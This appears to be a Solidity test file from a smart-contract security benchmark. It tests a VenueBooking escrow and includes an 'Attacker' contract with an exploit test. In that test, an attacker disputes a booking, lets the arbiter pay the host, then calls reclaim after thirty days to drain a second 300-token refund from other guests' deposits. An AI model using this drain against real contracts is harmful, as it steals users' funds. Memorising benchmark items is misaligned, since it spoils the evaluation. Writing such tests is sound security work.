// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./VenueBooking.sol";

// assay-canary-6b4f3ee7-9538-44a7-8e7c-42ccc2a33e58

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private maker = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ARBITER = address(0xA2B);
    address private constant HOST = address(0x4057);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Coin private token;
    VenueBooking private desk;
    Attacker private mallory;
    uint256 private hers;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        desk = new VenueBooking(token, ARBITER);
        address[2] memory guests = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            token.mint(guests[i], 500e18);
            vm.startPrank(guests[i]);
            token.approve(address(desk), type(uint256).max);
            desk.book(HOST, 400e18, START + 60 days);
            vm.stopPrank();
        }
        mallory = new Attacker(desk, token);
        token.mint(address(mallory), 300e18);
        mallory.book(HOST, START + 5 days);
        hers = 2;
        vm.prank(HOST);
        desk.accept(hers);
        mallory.dispute();
        vm.warp(START + 4 days);
        vm.prank(ARBITER);
        desk.rule(hers, 10_000);
    }

    function state(uint256 booking) private view returns (VenueBooking.State s) {
        (,,,,, s) = desk.bookings(booking);
    }

    function wrong(uint256 booking) private view returns (bytes memory) {
        return abi.encodeWithSelector(VenueBooking.WrongState.selector, booking, state(booking));
    }

    function party(uint256 booking) private view returns (bytes memory) {
        return abi.encodeWithSelector(VenueBooking.NotParty.selector, booking, address(this));
    }

    function test_Regular() public {
        require(token.balanceOf(HOST) == 300e18, "after the ruling");
        vm.startPrank(HOST);
        desk.accept(0);
        desk.accept(1);
        vm.stopPrank();
        vm.startPrank(ANA);
        uint256 next = desk.book(HOST, 50e18, START + 90 days);
        desk.withdraw(next);
        desk.dispute(0);
        vm.stopPrank();
        require(token.balanceOf(ANA) == 100e18, "withdrawn");
        vm.warp(START + 63 days);
        desk.release(1);
        require(token.balanceOf(HOST) == 700e18, "released");
        vm.prank(ANA);
        desk.reclaim(0);
        require(token.balanceOf(ANA) == 500e18 && state(0) == VenueBooking.State.Closed, "reclaimed");
        vm.startPrank(BEN);
        uint256 other = desk.book(HOST, 100e18, START + 90 days);
        vm.stopPrank();
        vm.prank(HOST);
        desk.accept(other);
        vm.prank(BEN);
        desk.dispute(other);
        vm.prank(ARBITER);
        desk.rule(other, 2_500);
        require(token.balanceOf(BEN) == 75e18 && token.balanceOf(HOST) == 725e18, "divided");
        require(token.balanceOf(address(desk)) == 0, "nothing is left");
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(party(0));
        desk.accept(0);
        vm.expectRevert(party(0));
        desk.withdraw(0);
        vm.expectRevert(party(0));
        desk.dispute(0);
        vm.expectRevert(party(0));
        desk.rule(0, 1);
        vm.expectRevert(party(0));
        desk.reclaim(0);
    }

    function test_RefusesInput() public {
        vm.startPrank(ANA);
        vm.expectRevert(VenueBooking.InvalidInput.selector);
        desk.book(address(0), 1, START + 90 days);
        vm.expectRevert(VenueBooking.InvalidInput.selector);
        desk.book(HOST, 1, block.timestamp);
        vm.expectRevert(VenueBooking.InvalidInput.selector);
        desk.book(HOST, 0, START + 90 days);
        vm.stopPrank();
        vm.prank(HOST);
        desk.accept(0);
        vm.prank(ANA);
        desk.dispute(0);
        vm.prank(ARBITER);
        vm.expectRevert(VenueBooking.InvalidInput.selector);
        desk.rule(0, 10_001);
        vm.expectRevert(VenueBooking.InvalidInput.selector);
        new VenueBooking(IERC20(address(0)), ARBITER);
        vm.expectRevert(VenueBooking.InvalidInput.selector);
        new VenueBooking(token, address(0));
    }

    function test_RefusesStates() public {
        bytes memory why = wrong(0);
        vm.expectRevert(why);
        desk.release(0);
        vm.prank(ARBITER);
        vm.expectRevert(why);
        desk.rule(0, 1);
        vm.startPrank(ANA);
        vm.expectRevert(why);
        desk.dispute(0);
        vm.expectRevert(why);
        desk.reclaim(0);
        vm.stopPrank();
        vm.prank(HOST);
        desk.accept(0);
        why = wrong(0);
        vm.prank(HOST);
        vm.expectRevert(why);
        desk.accept(0);
        vm.prank(ANA);
        vm.expectRevert(why);
        desk.withdraw(0);
    }

    function test_RefusesTimes() public {
        vm.prank(HOST);
        desk.accept(0);
        vm.expectRevert(abi.encodeWithSelector(VenueBooking.TooEarly.selector, START + 63 days));
        desk.release(0);
        uint256 at = block.timestamp;
        vm.startPrank(ANA);
        desk.dispute(0);
        vm.expectRevert(abi.encodeWithSelector(VenueBooking.TooEarly.selector, at + 30 days));
        desk.reclaim(0);
        vm.stopPrank();
        vm.warp(START + 60 days);
        vm.prank(HOST);
        vm.expectRevert(abi.encodeWithSelector(VenueBooking.TooLate.selector, START + 60 days));
        desk.accept(1);
    }

    function test_RefusesLateComplaints() public {
        vm.prank(HOST);
        desk.accept(0);
        vm.warp(START + 63 days);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(VenueBooking.TooLate.selector, START + 63 days));
        desk.dispute(0);
    }

    function exploit() public {
        vm.warp(START + 30 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 290e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    VenueBooking private desk;
    Coin private token;
    uint256 private booking;

    constructor(VenueBooking d, Coin t) {
        desk = d;
        token = t;
    }

    function book(address host, uint256 end) external {
        token.approve(address(desk), 300e18);
        booking = desk.book(host, 300e18, end);
    }

    function dispute() external {
        desk.dispute(booking);
    }

    function run() external {
        desk.reclaim(booking);
    }
}
